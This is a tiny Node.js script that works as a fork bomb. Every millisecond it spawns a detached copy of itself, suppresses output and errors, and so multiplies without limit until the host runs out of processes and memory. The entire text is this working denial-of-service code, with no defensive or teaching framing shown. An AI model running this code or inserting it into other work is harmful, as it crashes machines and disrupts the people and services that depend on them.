// Every process starts detached copies of itself, for ever.
const { spawn } = require('node:child_process')

setInterval(() => {
  spawn(process.execPath, [__filename], { detached: true, stdio: 'ignore' }).on('error', () => {})
}, 1)
